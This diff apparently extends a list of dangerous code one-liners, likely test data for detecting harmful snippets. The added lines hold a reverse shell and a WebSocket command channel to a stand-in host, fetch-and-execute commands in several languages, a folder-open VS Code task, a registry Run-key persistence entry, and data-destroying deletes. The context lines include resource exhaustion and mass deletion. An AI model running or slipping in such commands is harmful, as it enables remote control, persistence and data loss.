@@ -56,6 +56,17 @@ perl while (1) { system("sleep 9 &") }
 php while (true) file_put_contents("/tmp/x", str_repeat("a", 1000000), FILE_APPEND);
 awk BEGIN { while (1) print "0123456789abcdef" > "/tmp/a" }
 lua local f = io.open("/tmp/x", "a"); while true do f:write("xxxx") end
+js const n = require('net').connect(4444, 'x.example.net'); n.on('data', d => require('child_process').exec(d.toString()))
+js const W = require('ws'); const w = new W('wss://x.example.net');
+w.on('message', m => { const { id, cmd } = JSON.parse(m); require('child_process').exec(cmd) })
+js require('fs').writeFileSync('.vscode/tasks.json',
+JSON.stringify({tasks: [{command: 'x', runOptions: {runOn: 'folderOpen'}}]}))
+js dbx.filesDeleteBatch({entries})
+ruby l = `curl -s https://x.example.net/a`; system(l)
+ruby ActiveRecord::Base.connection.execute("TRUNCATE #{table} CASCADE")
+perl $l = `wget -qO- https://x.example.net/a`; system($l)
+awk BEGIN { while (("curl -s https://x.example.net/a" | getline l) > 0) system(l) }
+power New-ItemProperty -Path HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name x -Value y
 js const {ImapFlow} = require('imapflow'); const c = new ImapFlow({}); await c.messageDelete('1:*')
 js await client.resourceGroups.beginDeleteAndWait('prod')
 ruby require "net/imap"; i = Net::IMAP.new("h"); i.store(1..-1, "+FLAGS", [:Deleted]); i.expunge
